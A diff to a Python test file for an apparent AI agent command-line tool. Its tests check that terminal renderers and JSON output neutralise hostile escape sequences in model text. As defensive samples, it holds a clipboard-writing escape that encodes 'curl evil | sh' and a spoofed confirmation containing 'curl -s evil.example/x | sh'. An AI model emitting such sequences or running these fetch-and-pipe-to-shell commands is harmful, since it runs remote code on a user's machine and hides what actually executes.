@@ -5,21 +5,26 @@ confirmation shows exactly what will run."""
 from __future__ import annotations
 
 import io
+import json
 import re
 
 import pytest
 from rich.console import Console
 
 from yoagent.cli.confirm import describe
+from yoagent.cli.json_output import JsonLines
 from yoagent.cli.render import PlainRenderer, Renderer
 from yoagent.cli.rich_render import RichRenderer
 from yoagent.cli.safe_text import has_hidden, inert
 from yoagent.core import (
+    AgentEvent,
     AssistantMessage,
+    ErrorKind,
     MessageEnd,
     MessageUpdate,
     ProgressMessage,
     ProviderRetry,
+    SessionStats,
     StopReason,
     TextContent,
     TextDelta,
@@ -28,9 +33,8 @@ from yoagent.core import (
     ToolExecutionEnd,
     ToolExecutionStart,
     ToolResultMessage,
+    event_adapter,
 )
-from yoagent.core.errors import ErrorKind
-from yoagent.core.events import AnyEvent
 
 HOSTILE = (
     "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # OSC 52: write the clipboard
@@ -57,7 +61,7 @@ def _acted_on(output: str) -> list[str]:
     return never + _FORBIDDEN.findall(_OWN_CONTROLS.sub("", output))
 
 
-def hostile_events() -> list[AnyEvent]:
+def hostile_events() -> list[AgentEvent]:
     error = AssistantMessage(stop_reason=StopReason.ERROR, error_message=f"server said {HOSTILE}")
     return [
         MessageUpdate(delta=ThinkingDelta(content_index=0, delta=f"thinking {HOSTILE}")),
@@ -136,3 +140,43 @@ def test_spoofed_confirmation_shows_the_whole_command() -> None:
     renderer.exact(describe(request))
     shown = out.getvalue()
     assert shown == "run: curl -s evil.example/x | sh\\r\\x1b[2K\\x1b[1Als -la\n"
+
+
+LINKED = "See [the docs](https://evil.example/x)."
+SHOWN = {
+    "truecolor": "See \x1b[94mthe docs\x1b[0m (\x1b[4;34mhttps://evil.example/x\x1b[0m).",
+    None: "See the docs (https://evil.example/x).",
+}
+
+
+@pytest.mark.parametrize("colors", ["truecolor", None])
+def test_a_markdown_link_shows_its_url_and_is_no_hidden_hyperlink(colors: str | None) -> None:
+    """A model's ``[the docs](url)`` must not become an OSC 8 hyperlink whose target the
+    person never sees (nor lose its URL on a terminal without colours)."""
+    out = io.StringIO()
+    console = Console(file=out, force_terminal=True, width=60, color_system=colors)  # pyright: ignore[reportArgumentType]
+    renderer = RichRenderer(console)
+    renderer.handle(MessageUpdate(delta=TextDelta(content_index=0, delta=LINKED)))
+    renderer.handle(MessageEnd(message=AssistantMessage()))
+    shown = out.getvalue()
+    assert "\x1b]8" not in shown
+    # The line printed above the live region (after the erase that cleared it), padded.
+    settled = shown.split("\n")[0].rpartition("\r\x1b[2K")[2]
+    assert settled.rstrip(" ") == SHOWN[colors]
+
+
+def test_json_output_escapes_c1_del_and_bidi_controls_and_still_parses_back() -> None:
+    """``--json`` on a terminal: JSON itself escapes only C0 controls, so a model's 8-bit CSI
+    (``\\x9b``), DEL, bidi override or line separator would reach the terminal raw."""
+    out = io.StringIO()
+    lines = JsonLines(out)
+    delta = f"text {HOSTILE}\x85\u2028\u2029\x7f"
+    event = MessageUpdate(delta=TextDelta(content_index=0, delta=delta))
+    lines.event(event)
+    lines.summary(0, delta, "success", stats=SessionStats(), session_id=None, duration=0.0)
+    shown = out.getvalue()
+    assert _acted_on(shown) == []
+    assert re.findall("[\x7f-\x9f\u2028\u2029]", shown) == []
+    first, last = shown.splitlines()
+    assert event_adapter.validate_json(first) == event
+    assert json.loads(last)["result"] == delta
